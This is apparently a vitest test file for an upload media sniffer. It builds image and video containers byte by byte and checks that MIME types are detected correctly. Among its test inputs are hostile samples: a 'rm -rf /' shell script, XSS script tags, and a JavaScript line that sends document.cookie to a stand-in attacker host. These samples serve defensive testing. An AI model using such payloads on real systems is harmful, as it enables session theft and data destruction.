/**
 * The upload sniffer on real files: images encoded by sharp (libvips), and containers built byte by
 * byte the way their specifications lay them out (ISO BMFF boxes, EBML elements, RIFF chunks, a
 * BMP's headers, MPEG-TS packets), plus the things that must never pass for media: HTML, scripts,
 * archives and executables, whatever their name.
 */
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import {
  isPassiveMediaType,
  RASTER_IMAGE_TYPES,
  SNIFF_BYTES,
  sniffMedia,
  SVG_TYPE,
  VIDEO_TYPES,
} from '../../src/core/media-sniff';

const u32be = (n: number) => {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(n);
  return b;
};

/** An ISO BMFF box: 32-bit size, four-character type, payload. */
const box = (type: string, payload: Buffer) =>
  Buffer.concat([u32be(8 + payload.length), Buffer.from(type, 'latin1'), payload]);

/** `ftyp` with a major brand, minor version 0x200 and compatible brands, then an empty `mdat`. */
const isoFile = (major: string, ...compatible: string[]) =>
  Buffer.concat([
    box('ftyp', Buffer.from(major + '\0\0\x02\0' + compatible.join(''), 'latin1')),
    box('free', Buffer.alloc(0)),
    box('mdat', Buffer.from([0, 0, 0, 1])),
  ]);

/** An EBML element with a one-byte size (enough for a header). */
const ebml = (id: number[], payload: Buffer) =>
  Buffer.concat([Buffer.from(id), Buffer.from([0x80 | payload.length]), payload]);

/** A Matroska/WebM file's EBML header, as mkvmerge and libwebm write it, then a Segment start. */
const ebmlFile = (docType: string) =>
  Buffer.concat([
    ebml(
      [0x1a, 0x45, 0xdf, 0xa3],
      Buffer.concat([
        ebml([0x42, 0x86], Buffer.from([1])), // EBMLVersion
        ebml([0x42, 0xf7], Buffer.from([1])), // EBMLReadVersion
        ebml([0x42, 0xf2], Buffer.from([4])), // EBMLMaxIDLength
        ebml([0x42, 0xf3], Buffer.from([8])), // EBMLMaxSizeLength
        ebml([0x42, 0x82], Buffer.from(docType, 'latin1')), // DocType
        ebml([0x42, 0x87], Buffer.from([4])), // DocTypeVersion
        ebml([0x42, 0x85], Buffer.from([2])), // DocTypeReadVersion
      ]),
    ),
    Buffer.from([0x18, 0x53, 0x80, 0x67, 0x01, 0, 0, 0, 0, 0, 0, 0]),
  ]);

/** A RIFF file: `RIFF`, little-endian size, form type, then one chunk. */
const riff = (form: string, chunk: string, data: Buffer) => {
  const body = Buffer.concat([Buffer.from(chunk, 'latin1'), Buffer.alloc(4), data]);
  body.writeUInt32LE(data.length, 4);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(4 + body.length);
  return Buffer.concat([Buffer.from('RIFF'), size, Buffer.from(form, 'latin1'), body]);
};

/** A 1×1 24-bit BMP: BITMAPFILEHEADER, BITMAPINFOHEADER, one padded row. */
function bmp1x1(): Buffer {
  const file = Buffer.alloc(14 + 40 + 4);
  file.write('BM', 0, 'latin1');
  file.writeUInt32LE(file.length, 2);
  file.writeUInt32LE(54, 10); // pixel data offset
  file.writeUInt32LE(40, 14); // DIB header size
  file.writeInt32LE(1, 18); // width
  file.writeInt32LE(1, 22); // height
  file.writeUInt16LE(1, 26); // planes
  file.writeUInt16LE(24, 28); // bits per pixel
  file.writeUInt32LE(4, 34); // image size
  file.set([0x00, 0x00, 0xff], 54); // one red pixel (BGR)
  return file;
}

/** Three 188-byte transport stream packets (PAT PID 0, then null packets). */
function transportStream(prefix = 0): Buffer {
  const packet = (pid: number) => {
    const p = Buffer.alloc(prefix + 188, 0xff);
    if (prefix) p.fill(0, 0, prefix);
    p.set([0x47, 0x40 | (pid >> 8), pid & 0xff, 0x10], prefix);
    return p;
  };
  return Buffer.concat([packet(0), packet(0x1fff), packet(0x1fff)]);
}

const pixel = () => sharp({ create: { width: 1, height: 1, channels: 3, background: '#336699' } });

describe('sniffMedia on real files', () => {
  it.each([
    ['JPEG', () => pixel().jpeg().toBuffer(), 'image/jpeg'],
    ['progressive JPEG', () => pixel().jpeg({ progressive: true }).toBuffer(), 'image/jpeg'],
    ['PNG', () => pixel().png().toBuffer(), 'image/png'],
    ['GIF', () => pixel().gif().toBuffer(), 'image/gif'],
    ['WebP', () => pixel().webp().toBuffer(), 'image/webp'],
    ['lossless WebP', () => pixel().webp({ lossless: true }).toBuffer(), 'image/webp'],
    ['AVIF', () => pixel().avif().toBuffer(), 'image/avif'],
    ['TIFF (not accepted: players cannot show it)', () => pixel().tiff().toBuffer(), 'image/tiff'],
  ])('names a %s encoded by sharp', async (_what, encode, mime) => {
    const bytes = await encode();
    expect(sniffMedia(bytes.subarray(0, SNIFF_BYTES))).toBe(mime);
    // sharp reads back what it wrote: these are real files, not just their first bytes.
    expect((await sharp(bytes).metadata()).width).toBe(1);
  });

  it('names a BMP by its file and DIB headers, and sharp-free formats built to their specs', () => {
    expect(sniffMedia(bmp1x1())).toBe('image/bmp');
    expect(sniffMedia(Buffer.from('BM is how this text starts, not a bitmap'))).toBe('text/plain');
    expect(sniffMedia(isoFile('heic', 'mif1', 'heic'))).toBe('image/heic');
    expect(sniffMedia(isoFile('mif1', 'mif1', 'miaf'))).toBe('image/heif');
    // A HEIF container whose compatible brands say AV1 is AVIF.
    expect(sniffMedia(isoFile('mif1', 'avif', 'mif1', 'miaf'))).toBe('image/avif');
  });

  it.each([
    ['MP4 (isom)', isoFile('isom', 'isom', 'iso2', 'avc1', 'mp41'), 'video/mp4'],
    ['MP4 (mp42)', isoFile('mp42', 'mp42', 'isom'), 'video/mp4'],
    ['DASH segment', isoFile('dash', 'iso6', 'avc1'), 'video/mp4'],
    ['M4V', isoFile('M4V ', 'M4V ', 'M4A ', 'mp42', 'isom'), 'video/x-m4v'],
    ['MOV', isoFile('qt  ', 'qt  '), 'video/quicktime'],
    ['3GP', isoFile('3gp4', 'isom', '3gp4'), 'video/3gpp'],
    ['an unknown major brand with a known compatible one', isoFile('xxxx', 'mp41'), 'video/mp4'],
    ['M4A audio (not accepted)', isoFile('M4A ', 'M4A ', 'mp42', 'isom'), 'audio/mp4'],
    [
      'a QuickTime movie without ftyp',
      Buffer.concat([box('wide', Buffer.alloc(0)), box('mdat', Buffer.alloc(16))]),
      'video/quicktime',
    ],
    ['WebM', ebmlFile('webm'), 'video/webm'],
    ['Matroska', ebmlFile('matroska'), 'video/x-matroska'],
    ['AVI', riff('AVI ', 'LIST', Buffer.from('hdrlavih')), 'video/x-msvideo'],
    ['WAV (not accepted)', riff('WAVE', 'fmt ', Buffer.alloc(16)), 'audio/wav'],
    ['MPEG-TS', transportStream(), 'video/mp2t'],
    ['M2TS', transportStream(4), 'video/mp2t'],
  ])('names %s by its container structure', (_what, bytes, mime) => {
    expect(sniffMedia(bytes)).toBe(mime);
  });

  it('finds SVG behind an XML declaration, comments and a DOCTYPE, with or without a BOM', () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"><rect/></svg>';
    expect(sniffMedia(Buffer.from(svg))).toBe(SVG_TYPE);
    expect(
      sniffMedia(
        Buffer.from(
          '\uFEFF<?xml version="1.0" encoding="UTF-8"?>\n<!-- made by hand -->\n' +
            '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" ' +
            '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n' +
            svg,
        ),
      ),
    ).toBe(SVG_TYPE);
    expect(sniffMedia(Buffer.from('<?xml version="1.0"?><feed/>'))).toBe('application/xml');
  });

  it.each([
    ['an HTML page', '<!DOCTYPE html><html><body><script>alert(1)</script></body></html>'],
    ['HTML without a DOCTYPE', '  <html><script>alert(document.cookie)</script>'],
    ['a bare script tag', '<script>fetch("/api/v1/admin/users/")</script>'],
    ['HTML behind a comment', '<!-- logo --><iframe src="https://evil.example"></iframe>'],
    ['markup posing as XML', '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>'],
  ])('names %s as HTML, never SVG or an image', (_what, text) => {
    const mime = sniffMedia(Buffer.from(text));
    expect(['text/html', 'application/xml']).toContain(mime);
    expect(isPassiveMediaType(mime)).toBe(false);
  });

  it.each([
    ['a shell script', '#!/bin/sh\nrm -rf /\n', 'text/x-script'],
    [
      'JavaScript',
      'document.location = "https://evil.example/?c=" + document.cookie;',
      'text/plain',
    ],
    ['a PDF', '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'application/pdf'],
  ])('names %s for what it is', (_what, text, mime) => {
    expect(sniffMedia(Buffer.from(text, 'latin1'))).toBe(mime);
  });

  it('names archives, executables and noise', () => {
    expect(sniffMedia(Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0]))).toBe(
      'application/zip',
    );
    expect(sniffMedia(Buffer.from([0x1f, 0x8b, 0x08, 0]))).toBe('application/gzip');
    expect(sniffMedia(Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]))).toBe('application/x-elf');
    expect(sniffMedia(Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'))).toBe(
      'application/x-msdownload',
    );
    const noise = Buffer.alloc(1000);
    for (let i = 0; i < noise.length; i++) noise[i] = (i * 131 + 7) % 256;
    expect(sniffMedia(noise)).toBe('application/octet-stream');
    expect(sniffMedia(Buffer.alloc(0))).toBe('text/plain');
  });

  it('keeps text text when the head ends inside a multi-byte character', () => {
    const text = Buffer.from('é'.repeat(SNIFF_BYTES));
    expect(sniffMedia(text.subarray(0, SNIFF_BYTES - 1))).toBe('text/plain');
  });
});

describe('the allow-lists', () => {
  it('treat raster images and videos as passive, SVG and everything else as not', () => {
    for (const mime of [...RASTER_IMAGE_TYPES, ...VIDEO_TYPES])
      expect(isPassiveMediaType(mime)).toBe(true);
    for (const mime of [SVG_TYPE, 'text/html', 'application/xml', 'image/x-unknown', ''])
      expect(isPassiveMediaType(mime)).toBe(false);
  });
});
